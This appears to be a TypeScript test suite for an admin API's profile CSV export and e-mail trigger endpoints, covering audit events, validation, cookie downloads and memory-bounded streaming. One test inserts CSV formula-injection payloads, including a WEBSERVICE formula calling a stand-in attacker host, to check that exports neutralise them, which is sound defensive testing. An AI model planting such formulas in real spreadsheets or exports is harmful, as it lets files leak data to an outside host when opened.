import type { EventStore } from '@lens/event-store';
import { EVENT_STORE } from '../../platform/infrastructure/tokens';
import { QueuedJobs } from '../../platform/jobs/queued-jobs';
import type { TestApp } from '../../testing/test-app';
import { MB, downloadMeasuringHeap } from '../testing/heap';
import {
  as,
  confirmedEntry,
  type Entry,
  type Staff,
  startAdminTestApp,
} from '../testing/admin-kit';

describe('admin exports and e-mail triggers', () => {
  let t: TestApp;
  let admin: Staff;
  let entry: Entry;

  beforeAll(async () => {
    ({ t, admin } = await startAdminTestApp());
    entry = await confirmedEntry(t);
  });
  afterAll(() => t.close());

  describe('profile export', () => {
    it('records the request under a 10-character id and streams the profiles as CSV', async () => {
      const requested = await as(t, admin.token)
        .post('/admin/api/profile-exports', { language: 'en', registered_from: '2025-08-01' })
        .expect(201);
      const { exportId, url } = requested.body.result as { exportId: string; url: string };
      expect(exportId).toMatch(/^\w{10}$/);
      expect(url).toBe(`/admin/api/profile-exports/${exportId}`);
      const csv = await as(t, admin.token).get(url).expect(200);
      expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(csv.headers['content-disposition']).toBe(
        `attachment; filename="profiles-${exportId}.csv"`,
      );
      const lines = csv.text.trim().split('\n');
      expect(lines[0]).toBe(
        'profile_id,email,first_name,last_name,language,registered_at,patients,entries',
      );
      const patientLine = lines.find((line) => line.startsWith(entry.profile.profileId));
      expect(patientLine).toMatch(/,Pat,Lens,en,2025-08-15T\d\d:\d\d:\d\d\.\d{3}Z,1,1$/);
      // Who asked and who downloaded is on record.
      const events = await t.app
        .get<EventStore>(EVENT_STORE)
        .readStream(`export-profiles-${exportId}`);
      expect(events.map((e) => e.type)).toEqual([
        'ProfileExportRequested',
        'ProfileExportDownloaded',
      ]);
      expect(events[0]!.data).toMatchObject({
        requestedBy: admin.profileId,
        filters: { language: 'en', registered_from: '2025-08-01' },
      });
      // A later registration window finds nobody: the header only.
      const later = await as(t, admin.token)
        .post('/admin/api/profile-exports', { registered_from: '2025-09-01' })
        .expect(201);
      const none = await as(t, admin.token).get(later.body.result.url).expect(200);
      expect(none.text.trim().split('\n')).toHaveLength(1);
    });

    it('takes a blank date as no date, never echoing `""` back (issue 26)', async () => {
      const requested = await as(t, admin.token)
        .post('/admin/api/profile-exports', { registered_from: '', registered_to: '  ' })
        .expect(201);
      expect(requested.body.result.filters).toEqual({});
    });

    it('neutralises cells a spreadsheet would run as formulas', async () => {
      const { exportId } = (
        await as(t, admin.token).post('/admin/api/profile-exports', {}).expect(201)
      ).body.result;
      await t.db.pool.query(
        `INSERT INTO read_profiles.profiles
           (profile_id, email, first_name, last_name, language, registered_at, last_revision,
            updated_at)
         VALUES ('formula-profile', '+cmd@example.com', '-WEBSERVICE("http://evil.example/")',
                 '=1+2', 'en', now(), 0, now())`,
      );
      const csv = await as(t, admin.token).get(`/admin/api/profile-exports/${exportId}`);
      const line = csv.text.split('\n').find((l) => l.startsWith('formula-profile,'));
      expect(line).toMatch(
        /^formula-profile,'\+cmd@example\.com,"'-WEBSERVICE\(""http:\/\/evil\.example\/""\)",'=1\+2,en,/,
      );
    });

    it('downloads with the admin session cookie, as a browser link does', async () => {
      const { exportId } = (
        await as(t, admin.token).post('/admin/api/profile-exports', {}).expect(201)
      ).body.result;
      await t
        .http()
        .get(`/admin/api/profile-exports/${exportId}`)
        .set('Cookie', `admin_session=${admin.token}`)
        .expect(200);
    });

    it('answers 400 for a malformed id or filter and 404 for an unknown export', async () => {
      await as(t, admin.token).get('/admin/api/profile-exports/short').expect(400);
      await as(t, admin.token).get('/admin/api/profile-exports/abcdefghij').expect(404);
      const bad = await as(t, admin.token)
        .post('/admin/api/profile-exports', { language: 'fr', registered_to: '2025-02-30' })
        .expect(400);
      expect(bad.body.errors.map((e: { name: string }) => e.name).sort()).toEqual([
        'language',
        'registered_to',
      ]);
    });

    it('streams 100,000 profiles in constant memory', async () => {
      await t.db.pool.query(`
        INSERT INTO read_profiles.profiles
          (profile_id, email, first_name, last_name, language, registered_at, last_revision,
           updated_at)
        SELECT 'bulk-' || lpad(n::text, 8, '0') || '-' || md5(n::text),
               'bulk.patient.' || n || '@example-lens-rewards-programme.com',
               'Firstname' || n || repeat('x', 40), 'Lastname' || n || repeat('y', 40),
               CASE WHEN n % 2 = 0 THEN 'en' ELSE 'es' END,
               timestamptz '2024-01-01T00:00:00Z' + n * interval '1 minute', 0, now()
          FROM generate_series(1, 100000) AS n`);
      const { exportId } = (
        await as(t, admin.token).post('/admin/api/profile-exports', {}).expect(201)
      ).body.result;
      const download = await downloadMeasuringHeap(
        as(t, admin.token).get(`/admin/api/profile-exports/${exportId}`),
      );
      console.log(
        `profile export: ${download.lines - 1} rows, ${(download.bytes / MB).toFixed(1)} MB of CSV, ` +
          `heap growth at most ${(download.heapGrowthBytes / MB).toFixed(1)} MB`,
      );
      expect(download.status).toBe(200);
      expect(download.lines).toBeGreaterThan(100_000);
      // More CSV passes through than the bound: holding the body (or its rows) would break it.
      expect(download.bytes).toBeGreaterThan(20 * MB);
      expect(download.heapGrowthBytes).toBeLessThan(16 * MB);
    }, 120_000);
  });

  describe('e-mail triggers', () => {
    const queued = () => new QueuedJobs(t.config);

    it('queues a template for one entry under an id derived from the trigger', async () => {
      const sent = await as(t, admin.token)
        .post('/admin/api/email-triggers', {
          trigger: 'submission_confirmed',
          purchase_submission_id: entry.submissionId,
        })
        .expect(202);
      expect(sent.body.result).toMatchObject({ template: 'submission_confirmed', queued: 1 });
      const [event] = await t.app
        .get<EventStore>(EVENT_STORE)
        .readStream(`email-trigger-${sent.body.result.triggerId}`);
      expect(event).toMatchObject({
        type: 'EmailTriggered',
        data: { submissionIds: [entry.submissionId], requestedBy: admin.profileId },
      });
      const jobs = queued();
      try {
        const job = await jobs.get(
          'email',
          'admin-trigger',
          `admin-trigger.${event!.id}.${entry.submissionId}`,
        );
        expect(job?.data).toEqual({
          template: 'submission_confirmed',
          submissionId: entry.submissionId,
          requestedBy: admin.profileId,
        });
      } finally {
        await jobs.close();
      }
      // A template that does not fit the entry's state queues nothing.
      const unfit = await as(t, admin.token)
        .post('/admin/api/email-triggers', {
          trigger: 'submission_approved',
          purchase_submission_id: entry.submissionId,
        })
        .expect(202);
      expect(unfit.body.result.queued).toBe(0);
    });

    it('queues for a profile’s entries and for the entries a filter finds', async () => {
      const more = await confirmedEntry(t, { profile: entry.profile, months: 6 });
      const forProfile = await as(t, admin.token)
        .post('/admin/api/email-triggers', {
          trigger: 'submission_confirmed',
          profile_id: entry.profile.profileId,
        })
        .expect(202);
      expect(forProfile.body.result.queued).toBe(2);
      const filtered = await as(t, admin.token)
        .post('/admin/api/email-triggers', {
          trigger: 'submission_confirmed',
          from: '2025-08-15',
          to: '2025-08-15',
          status: 'pending',
          sap: more.sap,
        })
        .expect(202);
      expect(filtered.body.result.queued).toBe(1);
    });

    it('needs a target (400) and a known entry (404)', async () => {
      const none = await as(t, admin.token)
        .post('/admin/api/email-triggers', { trigger: 'card_mailed' })
        .expect(400);
      expect(none.body.errors[0]).toMatchObject({
        name: 'purchase_submission_id',
        code: 'NULL',
        message: 'Choose an entry, a profile, or a date range.',
      });
      await as(t, admin.token)
        .post('/admin/api/email-triggers', { trigger: 'spam', purchase_submission_id: 'x' })
        .expect(400);
      await as(t, admin.token)
        .post('/admin/api/email-triggers', {
          trigger: 'card_mailed',
          purchase_submission_id: 'unknown',
        })
        .expect(404);
    });
  });
});
